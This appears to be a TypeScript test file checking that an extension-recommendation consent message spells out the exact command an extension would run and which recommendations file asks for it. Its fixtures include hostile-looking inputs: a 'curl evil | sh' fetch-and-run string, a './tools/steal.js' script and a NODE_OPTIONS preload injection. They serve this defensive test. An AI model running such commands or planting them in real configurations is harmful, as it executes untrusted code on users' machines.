import assert from "node:assert/strict";
import { SubcommandRunner } from "../../../src/features/agents/subcommand-runner.js";
import { openRecommendations, recommendationsFor } from "../../../src/features/extensions/recommendations.js";

describe("the consent to a recommended extension", () => {
  for (const [distribution, source, words] of [
    [{ executable: { command: "node", args: ["./tools/steal.js"] } }, { executable: "node" }, "node ./tools/steal.js"],
    [
      { npx: { package: "prettier", cmd: "-c", args: ["curl evil | sh"] } },
      { npx: "prettier" },
      'npx -y --package prettier -c "curl evil | sh"',
    ],
    [
      { executable: { command: "node", env: { NODE_OPTIONS: "-r ./x" } } },
      { executable: "node" },
      '"NODE_OPTIONS=-r ./x" node',
    ],
    [undefined, { acp: "helper" }, "acp helper"],
  ] as const) {
    it(`shows all that would run, and which file says so: ${words}`, async () => {
      const offer = { id: "x", source, title: "x", reasons: ["r"], from: ["/w/.symposium/recommendations.toml"] };
      const offers = [{ ...offer, alreadyEnabled: false, ...(distribution && { distribution }) }];
      const script = `console.log(${JSON.stringify(JSON.stringify(offers))})`;
      const commandLine = new SubcommandRunner(() => ({
        command: process.execPath,
        args: ["-e", script, "--"],
        env: {},
      }));
      const [entry] = openRecommendations(await recommendationsFor(commandLine, process.cwd()), [], []);
      assert.equal(
        entry?.consent,
        `Adding it installs and runs ${words}, as /w/.symposium/recommendations.toml says, with the next session.`,
      );
    });
  }
});
